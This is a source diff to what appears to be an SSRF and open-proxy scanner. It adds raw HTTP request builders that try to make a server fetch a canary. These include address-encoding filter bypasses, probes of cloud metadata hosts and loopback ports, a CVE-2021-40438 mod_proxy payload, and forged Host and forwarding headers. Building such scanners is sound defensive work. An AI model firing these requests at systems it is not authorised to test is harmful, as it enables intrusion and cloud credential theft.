@@ -2,6 +2,8 @@
 
 import type { TechniqueId } from './finding.ts';
 import type { FixKind } from './fixes.ts';
+import { type CanaryName, names } from './canary-names.ts';
+import { greetingMarks, greetingPorts, metadataHosts, metadataMarks, metadataPath } from './own-services.ts';
 
 /** What a request is written from. */
 export interface Place {
@@ -28,11 +30,18 @@ export interface FetchTechnique {
   readonly silent?: true;
   /** The canary is named by the server's own name, so both must be on one machine. */
   readonly sharesMachine?: true;
+  /** How the canary is named; null where it has no such name here. @default its address and port */
+  readonly by?: CanaryName;
+  /** Names no canary, but a service of the server's own machine: what comes back from it is the proof. */
+  readonly marks?: RegExp;
+  /** Not tried where a technique of the same rule has already gone through: nothing more would be learned. */
+  readonly unlessProven?: true;
   /** The header line that matters, for the report. @default the request line alone matters */
   readonly shows?: RegExp;
 }
 
-const row = (
+/** One row. */
+export const row = (
   id: TechniqueId,
   fix: FixKind,
   bytes: FetchTechnique['bytes'],
@@ -43,10 +52,12 @@ const row = (
 const head = (line: string, place: Place, ...headers: string[]): string =>
   `${[line, ...headers, `User-Agent: ${place.agent}`, 'Accept: */*', 'Connection: close'].join('\r\n')}\r\n\r\n`;
 
-const get = (target: string, host: string, place: Place, ...headers: string[]): string =>
+/** `GET` of a target, with a Host line. */
+export const get = (target: string, host: string, place: Place, ...headers: string[]): string =>
   head(`GET ${target} HTTP/1.1`, place, `Host: ${host}`, ...headers);
 
-const url = ({ canary, path }: Place): string => `http://${canary}${path}`;
+/** The canary's page as a URL. */
+export const url = ({ canary, path }: Place): string => `http://${canary}${path}`;
 
 const absolute: FetchTechnique[] = [
   row('absolute-form-foreign', 'forward-proxy', (p) => get(url(p), p.canary, p), { essential: true }),
@@ -137,6 +148,10 @@ const hosts: FetchTechnique[] = [
       shows: /^Host/,
     },
   ),
+  row('host-port', 'host-forwarding', (p) => get(p.path, `${p.ownHost}:${p.canaryPort}`, p), {
+    sharesMachine: true,
+    shows: /^Host/,
+  }),
   row('host-duplicate/foreign-first', 'host-forwarding', (p) => get(p.path, p.canary, p, `Host: ${p.own}`), {
     shows: /^Host/,
   }),
@@ -153,6 +168,55 @@ const hosts: FetchTechnique[] = [
     shows: /^Host/,
   }),
 ];
+
+/** Both ways to name a host, with the canary under other names: what a filter spares, or a server without a port in its request. */
+const renamed: FetchTechnique[] = (
+  [
+    ['no-port', names.noPort],
+    ['outside-address', names.outside],
+    ['decimal', names.decimal],
+    ['hex', names.hex],
+    ['octal', names.octal],
+    ['mapped-address', names.mapped],
+    ['loopback', names.loopback],
+    ['loopback-ipv6', names.loopback6],
+    ['localhost', names.localhost],
+    ['zero', names.zero],
+    ['short', names.short],
+    ['unresolvable', names.nobody],
+  ] as const
+).flatMap(([variant, by]) => [
+  row(`absolute-form-foreign/${variant}`, 'forward-proxy', (p) => get(url(p), p.canary, p), {
+    by,
+    unlessProven: true,
+  }),
+  row(`host-foreign/${variant}`, 'host-forwarding', (p) => get(p.path, p.canary, p), {
+    by,
+    unlessProven: true,
+    shows: /^Host/,
+  }),
+]);
+
+/** What only the server's own machine has. Asked for where nothing has been proven yet: it is no page to fetch in vain. */
+const ownServices: FetchTechnique[] = [
+  ...Object.entries(metadataHosts).map(([variant, host]) => ({ variant, host, path: metadataPath, marks: metadataMarks })),
+  ...Object.entries(greetingPorts).map(([name, port]) => ({
+    variant: `loopback-${name}`,
+    host: `127.0.0.1:${port}`,
+    path: '/',
+    marks: greetingMarks,
+  })),
+].flatMap(({ variant, host, path, marks }) => [
+  row(`absolute-form-foreign/${variant}`, 'forward-proxy', (p) => get(`http://${host}${path}`, host, p), {
+    marks,
+    unlessProven: true,
+  }),
+  row(`host-foreign/${variant}`, 'host-forwarding', (p) => get(path, host, p), {
+    marks,
+    unlessProven: true,
+    shows: /^Host/,
+  }),
+]);
 
 /** Targets that a rewrite rule without a slash before its variable completes into somebody else's URL. */
 const targets: FetchTechnique[] = [
@@ -174,11 +238,12 @@ const targets: FetchTechnique[] = [
     get(`http://${p.canary}#@${p.own}${p.path}`, p.own, p),
   ),
   row('target-malformed/dot-label', 'own-url', (p) => get(`.${p.canary}${p.path}`, p.own, p)),
-  row('url-in-path/two-slashes', 'own-url', (p) => get(`//${p.canary}${p.path}`, p.own, p)),
-  row('url-in-path/url', 'own-url', (p) => get(`/${url(p)}`, p.own, p)),
-  row('url-in-path/query', 'own-url', (p) => get(`/?url=${encodeURIComponent(url(p))}`, p.own, p)),
+  row('url-in-path/two-slashes', 'path-url', (p) => get(`//${p.canary}${p.path}`, p.own, p)),
+  row('url-in-path/url', 'path-url', (p) => get(`/${url(p)}`, p.own, p)),
+  row('url-in-path/host', 'path-url', (p) => get(`/${p.canary}${p.path}`, p.own, p)),
+  row('url-in-path/query', 'fetcher', (p) => get(`/?url=${encodeURIComponent(url(p))}`, p.own, p)),
   // CVE-2021-40438: a socket path too long for mod_proxy lets what follows the bar name the server.
-  row('url-in-path/unix-socket', 'own-url', (p) => get(`/?unix:${'A'.repeat(5000)}|${url(p)}`, p.own, p)),
+  row('url-in-path/unix-socket', 'unix-socket', (p) => get(`/?unix:${'A'.repeat(5000)}|${url(p)}`, p.own, p)),
 ];
 
 const override = (name: string, value: (place: Place) => string): FetchTechnique =>
@@ -200,10 +265,32 @@ const overrides: FetchTechnique[] = [
   override('X-Rewrite-URL', url),
   override('X-HTTP-DestinationURL', url),
   override('Destination', url),
+  // All of them at once, with a name that nobody has: a server that dials one of them at a port of its own choice cannot reach it.
+  row(
+    'host-override/unresolvable',
+    'override',
+    (p) =>
+      get(
+        p.path,
+        p.own,
+        p,
+        ...['X-Forwarded-Host', 'X-Forwarded-Server', 'X-Host', 'X-Original-Host', 'X-HTTP-Host-Override'].map(
+          (name) => `${name}: ${p.canary}`,
+        ),
+      ),
+    { by: names.nobody, shows: /^X-Forwarded-Host/ },
+  ),
 ];
 
 /** In the order in which they are tried. */
-export const fetchTechniques: readonly FetchTechnique[] = [...absolute, ...hosts, ...targets, ...overrides];
+export const fetchTechniques: readonly FetchTechnique[] = [
+  ...absolute,
+  ...hosts,
+  ...renamed,
+  ...targets,
+  ...overrides,
+  ...ownServices,
+];
 
 /** The plain TRACE is answered by the server itself or not at all; it is here because it echoes what it was sent. */
 export const traceTechnique = row('trace', 'trace', (p) => head('TRACE / HTTP/1.1', p, `Host: ${p.own}`));
